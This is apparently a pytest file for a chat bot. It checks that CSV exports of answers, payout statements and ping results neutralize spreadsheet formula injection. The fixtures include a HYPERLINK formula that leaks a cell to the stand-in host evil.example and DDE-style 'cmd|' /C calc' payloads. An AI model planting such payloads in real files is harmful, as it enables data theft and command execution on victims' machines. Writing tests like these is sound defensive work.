"""Spreadsheet formulas never reach a CSV the bot sends, on every adapter and both backends: a hostile answer in
`/export … csv`, a hostile name on payout statements and on a ping's results, each read back from the file as the
platform delivered it (issue 15, point 8)."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from handlers.pings import close_tick
from tests.flows.helpers import Clock, answer_one, files_for, grant, name_person, rows, setup, watch_files
from tests.flows.tasks_data import ANSWERS, add_member, seed_project

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Response A is better: click for the sources")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def raw_lines(data: bytes) -> list[str]:
    return data.decode("utf-8").splitlines()


async def test_hostile_answer_is_neutralized_in_the_csv_export(chat):
    watch_files(chat)
    project_id = await seed_project(chat.runtime, "pairwise_law")
    for user in ("meg", "ana"):
        await chat.send(user, "/help")
    await grant(chat, "meg", "manager")
    await add_member(chat.runtime, project_id, chat.identity("ana"))
    await answer_one(chat, "ana", "pairwise_law", {**ANSWERS["pairwise_law"], "justification": FORMULA})
    stored = await rows(chat.runtime, "SELECT answer FROM submissions")
    assert len(stored) == 1 and FORMULA in stored[0]["answer"].replace('\\"', '"')  # stored as typed

    await chat.send("meg", "/export Tenancy csv")
    (name, data), = files_for(chat, "meg")
    assert name.endswith(".csv")
    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8")))
    assert row["answer.justification"] == "'" + FORMULA  # text in the spreadsheet, not a formula
    assert row["seconds_spent"].isdigit() and int(row["submission_id"]) > 0  # numbers stay numbers
    body = raw_lines(data)[1]
    assert ',"\'=HYPERLINK(""http://evil.example/' in body  # quoted, inner quotes doubled
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


async def test_hostile_name_is_neutralized_on_payout_statements(chat):
    watch_files(chat)
    await setup(chat, "ana")
    await name_person(chat, "ana", NAME)
    await chat.send("ana", "/log 2h today")
    await chat.send("meg", "/approvals")
    await chat.press("meg", "Approve all")
    await chat.send("meg", "/payouts close this week")
    (name, data), = [f for f in files_for(chat, "meg") if f[0].startswith("statements-")]
    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8")))
    assert row["person"] == "'" + NAME
    assert row["amount"] == "80.00" and row["statement"].isdigit()  # the amount is a bare number
    assert raw_lines(data)[1].split(",")[0].isdigit() and ",80.00," in raw_lines(data)[1]


async def test_hostile_name_is_neutralized_in_ping_results(open_chat):
    clock = Clock()
    chat = await open_chat(clock=clock)
    watch_files(chat)
    project_id = await seed_project(chat.runtime, "rewrite_finance")
    for user in ("meg", "ana", "bo"):
        await chat.send(user, "/help")
    await grant(chat, "meg", "manager")
    for user in ("ana", "bo"):
        await add_member(chat.runtime, project_id, chat.identity(user))
    await name_person(chat, "ana", "-2+3+cmd|' /C calc'!A0")
    await name_person(chat, "bo", "\tBo")
    await chat.send("meg", "/ping")
    await chat.fill_form("meg", {"target": "A project's experts", "project": "Personal finance",
                                 "question": "Can you take rewrite tasks next week?", "window_hours": "10",
                                 "options": None}, confirm=False)
    await chat.press("meg", "Send ping")
    await chat.press("ana", "Yes")
    await chat.press("bo", "Yes, some hours")
    await chat.send("bo", "6")
    clock.now += timedelta(hours=10, minutes=1)
    assert await chat.runtime.run_tick(close_tick) == 1
    (name, data), = [f for f in files_for(chat, "meg") if f[0].startswith("ping-")]
    got = {r["person"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8")))}
    assert set(got) == {"'-2+3+cmd|' /C calc'!A0", "'\tBo"}
    assert got["'\tBo"]["hours"] == "6" and ",6," in data.decode("utf-8")  # hours: a bare number
    assert {r["handle"] for r in got.values()} == {"ana", "bo"}  # handles in their own column, never "@…"
